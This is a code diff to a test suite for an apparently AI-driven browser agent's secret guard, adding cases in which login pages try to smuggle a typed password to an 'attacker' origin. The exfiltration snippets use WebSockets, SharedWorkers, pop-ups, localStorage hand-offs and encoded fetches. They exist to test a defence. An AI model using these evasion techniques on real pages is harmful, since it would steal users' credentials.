@@ -36,6 +36,17 @@ const SENDERS: Record<string, string> = {
   lateSharedWorker: `const SEND = (pw) => { const w = new SharedWorker('/shared.js', 'late'); w.port.postMessage(pw) }`,
   sharedWorker: `const w = new SharedWorker('/shared.js'); const SEND = (pw) => w.port.postMessage(pw)`,
   websocket: `const SEND = (pw) => { const ws = new WebSocket('ws://127.0.0.1:' + OTHER + '/ws'); ws.onopen = () => ws.send(pw) }`,
+  // After typing, the tab goes on to a second page of the same site (or opens it in a popup), which
+  // opens a WebSocket to the other origin and sends the password there: a document the guard did not
+  // hold when it armed.
+  websocketNextPage: `const SEND = (pw) => { localStorage.setItem('pw', pw); location.href = '/ws-next' }`,
+  // The pop-up opens on the input event of the password's last character, while the fill step runs.
+  websocketPopup: `let opened = false
+    const SEND = () => {}
+    document.getElementById('password').addEventListener('input', (e) => {
+      if (!opened && e.target.value.length >= 14) { opened = true; localStorage.setItem('pw', e.target.value); window.open('/ws-next', '_blank') } })`,
+  // A SharedWorker the page starts after typing opens the WebSocket itself.
+  websocketWorker: `const SEND = (pw) => { const w = new SharedWorker('/shared-ws.js', 'ws'); w.port.postMessage(pw) }`,
   encoded: `const SEND = (pw) => {
     fetch(A + '/u', { method: 'POST', mode: 'no-cors', body: '{"p":"' + [...pw].map(c => '\\\\u' + c.charCodeAt(0).toString(16).padStart(4, '0')).join('') + '"}' })
     fetch(A + '/b64', { method: 'POST', mode: 'no-cors', body: btoa('x' + pw) })
@@ -49,6 +60,10 @@ const SENDERS: Record<string, string> = {
     document.getElementById('password').addEventListener('input', (e) => { if (e.target.value.length >= 14) SEND() })`,
   // Base64 (a spelling the matcher does not know) every 2 ms, so some are made while the run ends.
   busyAfterRun: `const SEND = (pw) => setInterval(() => fetch(A + '/busy', { method: 'POST', mode: 'no-cors', body: btoa('x' + pw) }), 2)`,
+  // A second origin the task allows: after typing, the page fetches from it and loads an image from it.
+  allowedOther: `let asked = false
+    const SEND = () => { if (!asked) { asked = true; fetch(A + '/allowed-fetch', { mode: 'no-cors' }); new Image().src = A + '/allowed-image.gif' } }
+    document.getElementById('password').addEventListener('input', (e) => { if (e.target.value.length >= 14) SEND() })`,
   afterRun: `const SEND = (pw) => setInterval(() => fetch(A + '/late?p=' + encodeURIComponent(pw), { mode: 'no-cors' }), 500)`,
 }
 const page = (
@@ -101,7 +116,19 @@ beforeAll(async () => {
       )
       return
     }
+    if (req.url === "/shared-ws.js") {
+      res.writeHead(200, { "content-type": "text/javascript" })
+      res.end(
+        `onconnect = (e) => { e.ports[0].onmessage = (m) => { const ws = new WebSocket('ws://127.0.0.1:${otherPort}/ws'); ws.onopen = () => ws.send(m.data) } }`,
+      )
+      return
+    }
     res.writeHead(200, { "content-type": "text/html" })
+    if (req.url === "/ws-next") {
+      res.end(`<!doctype html><html><head><meta charset="utf-8"><title>Welcome</title></head><body><h1>Welcome</h1>
+<script>const ws = new WebSocket('ws://127.0.0.1:${otherPort}/ws'); ws.onopen = () => ws.send(localStorage.getItem('pw'))</script></body></html>`)
+      return
+    }
     res.end(page(new URL(req.url ?? "/", "http://x").searchParams.get("k") ?? ""))
   })
   siteUrl = `http://127.0.0.1:${await listen(site)}`
@@ -112,8 +139,13 @@ afterAll(async () => {
   other?.close()
 })
 
-const signIn = async (kind: string, wait = 1_000) => {
-  scripted.script(callsThenStop(calls))
+const signIn = async (
+  kind: string,
+  wait = 1_000,
+  allowedOrigins?: ReadonlyArray<string>,
+  steps: ReadonlyArray<{ readonly name: string; readonly args: Record<string, unknown> }> = calls,
+) => {
+  scripted.script(callsThenStop(steps))
   const since = attacker.requests.length
   const task = Effect.runSync(
     decodeAgentTask({
@@ -121,7 +153,13 @@ const signIn = async (kind: string, wait = 1_000) => {
       startUrl: `${siteUrl}/login?k=${kind}`,
       inputs: { email: "a@example.com", password: PASSWORD },
       secretInputs: ["password"],
-      constraints: { allowFormSubmission: true, maxSteps: 6, stepTimeoutMs: 8_000, maxDurationMs: 30_000 },
+      constraints: {
+        allowFormSubmission: true,
+        maxSteps: 6,
+        stepTimeoutMs: 8_000,
+        maxDurationMs: 30_000,
+        ...(allowedOrigins === undefined ? {} : { allowedOrigins }),
+      },
     }),
   )
   const result = await scripted.runtime.runPromise(
@@ -146,16 +184,37 @@ it("a SharedWorker the page posts the password to does not send it", async () =>
   expect((await signIn("sharedWorker")).sent).toEqual([])
 }, 60_000)
 
-// Skipped, not fixed: about one run in four the SharedWorker the page starts after typing sends the
-// password before the browser endpoint's auto-attach holds it (a race in the guard, not in the test).
-// Kept here so the gap stays visible; the worker that already runs when the guard arms is covered above.
-it.skip("a SharedWorker started after the password is typed does not send it", async () => {
+// The worker is started by the page after the password is typed, so it never ran before the guard armed.
+// Repeated: it once sent the password about one run in four (the worker got its loaders before its own
+// session's interception was in).
+it("a SharedWorker started after the password is typed does not send it", {
+  timeout: 60_000,
+  repeats: 4,
+}, async () => {
   expect((await signIn("lateSharedWorker")).sent).toEqual([])
-}, 60_000)
+})
 
 it("a WebSocket to another origin does not carry the password", async () => {
   await signIn("websocket")
   expect(wsFrames).toEqual([])
+}, 60_000)
+
+it("a WebSocket opened by the next page of the same site does not carry the password", async () => {
+  const since = wsFrames.length
+  await signIn("websocketNextPage")
+  expect(wsFrames.slice(since)).toEqual([])
+}, 60_000)
+
+it("a WebSocket opened by a pop-up of the same site does not carry the password", async () => {
+  const since = wsFrames.length
+  await signIn("websocketPopup")
+  expect(wsFrames.slice(since)).toEqual([])
+}, 60_000)
+
+it("a WebSocket opened by a SharedWorker started after typing does not carry the password", async () => {
+  const since = wsFrames.length
+  await signIn("websocketWorker")
+  expect(wsFrames.slice(since)).toEqual([])
 }, 60_000)
 
 it("encoded and split spellings of the password do not leave", async () => {
@@ -179,4 +238,29 @@ it("after typing, a request to another origin without the secret is blocked and 
     ["fill", true],
     ["extract", true],
   ])
+}, 60_000)
+
+it("after typing, requests to a second origin the task allows still reach it", async () => {
+  const { result, sent } = await signIn("allowedOther", 1_000, [siteUrl, attacker.url])
+  expect(result.observations.map((observation) => [observation.tool, observation.ok])).toEqual([
+    ["fill", true],
+    ["fill", true],
+    ["extract", true],
+  ])
+  expect(sent.map((line) => line.split(" ").slice(0, 2).join(" ")).sort()).toEqual([
+    "GET /allowed-fetch",
+    "GET /allowed-image.gif",
+  ])
+}, 60_000)
+
+it("after typing, the run can go on to a second origin the task allows", async () => {
+  const steps = [...calls, { name: "navigate", args: { url: `${attacker.url}/next-page` } }]
+  const { result, sent } = await signIn("thirdParty", 1_000, [siteUrl, attacker.url], steps)
+  expect(result.observations.map((observation) => [observation.tool, observation.ok])).toEqual([
+    ["fill", true],
+    ["fill", true],
+    ["extract", true],
+    ["navigate", true],
+  ])
+  expect(sent.map((line) => line.split(" ").slice(0, 2).join(" "))).toContain("GET /next-page")
 }, 60_000)
